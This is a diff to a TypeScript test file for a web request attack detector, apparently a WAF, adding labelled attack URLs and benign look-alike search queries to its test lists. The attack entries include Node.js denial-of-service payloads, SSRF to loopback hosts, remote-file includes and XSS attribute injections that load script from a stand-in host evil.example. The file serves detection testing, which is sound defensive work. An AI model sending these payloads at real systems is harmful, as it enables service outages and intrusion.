@@ -277,6 +277,10 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['session-id-param', '/app?koa.sess=eyJ1c2VyIjoxfQ'],
   ['session-id-param', '/node?SESS0123456789abcdef0123456789abcdef=xyz'],
   ['session-id-param', '/login?_shop_session=BAh7BkkiD3Nlc3Npb25faWQGOgZFVA'],
+  ['session-id-param', '/catalog/index.php?osCsid=0123456789abcdef0123456789abcdef'],
+  ['session-id-param', '/cgi-bin/app.pl?CGISESSID=0123456789abcdef'],
+  ['session-id-param', '/forum/?bbsessionhash=0123456789abcdef'],
+  ['session-id-param', '/names.nsf?DomAuthSessId=0123456789ABCDEF'],
   ['generic-node-dos-allocation', "/api?x='a'.repeat(100000000)"],
   ['php-concatenated-name-call', "/p?x=('sys'.'tem')('id')"],
   ['rfi-unc-path', '/p?file=%5C%5Cevil.example%5Cshare%5Cx.php'],
@@ -328,6 +332,22 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['rfi-include-param', '/a?phpbb_root_path=http://evil.example/'],
   ['rfi-include-param', '/a?GLOBALS[x]=http://evil.example/'],
   ['rfi-include-param', '/a?theme_path=https://evil.example/x.txt'],
+  // Node.js denial of service: a loop with an empty body or a constant condition, large allocations, abort().
+  ['generic-node-dos', '/?x=while(x=1){}'],
+  ['generic-node-dos', '/?x=while(typeof%20x){}'],
+  ['generic-node-dos', '/?x=for(;1;){}'],
+  ['generic-node-dos-allocation', "/?x='a'.repeat(2**30)"],
+  ['generic-node-dos-allocation', '/?x=Buffer.alloc(1e10)'],
+  ['generic-node-injection', '/?x=process.abort()'],
+  // A loopback name with the root's trailing dot, and as a UNC host.
+  ['generic-ssrf-internal-host', '/fetch?url=localhost./admin'],
+  ['generic-ssrf-internal-host', '/fetch?url=127.0.0.1.:80/'],
+  ['generic-ssrf-internal-host', '/fetch?x=%5C%5Clocalhost%5Cshare'],
+  // Attributes injected after a closing quote: a script's source, a plugin's script access, a CSS fetch.
+  ['xss-attribute-injection', '/s?q=%22%20src=%22//evil.example/x.js'],
+  ['xss-attribute-injection', '/s?q=x%22%20allowscriptaccess=%22always'],
+  ['xss-attribute-injection', '/s?q=x%27%20style=%27background:url(//evil.example/c)'],
+  ['xss-attribute-injection', '/s?q=<embed%20allowscriptaccess=always%20src=x.swf>'],
 ];
 
 /** Attacks in the User-Agent, for the detectors that read only that field. */
@@ -358,6 +378,12 @@ const BENIGN: readonly string[] = [
   '/img?image_path=https://cdn.example/x.png&w=200', // a thumbnailer's source: a URL where one is expected
   '/settings?implementation=java&lowsrc=1',
   '/api/items?filter={"tags":["a","b"],"price":{"lt":10}}',
+  '/search?q=free+shipping+while+(supplies+last)',
+  '/search?q=for+(2+people)%3B+under+%2450',
+  '/search?q=i+use+localhost.',
+  '/search?q=%22red+dress%22+style%3Dboho', // a quoted phrase and a facet, not an attribute
+  '/search?q=the+%22source%22+href+link',
+  '/docs?q=new+Array(5)',
   "/api/acl?path='/*'&verb=read", // a quoted glob, not a comment after a string
   '/go?u=https://cdn.example//assets//app.js', // doubled slashes in an ordinary URL
   '/conference/talks?session=3&track=web', // a session of talks, not a session id
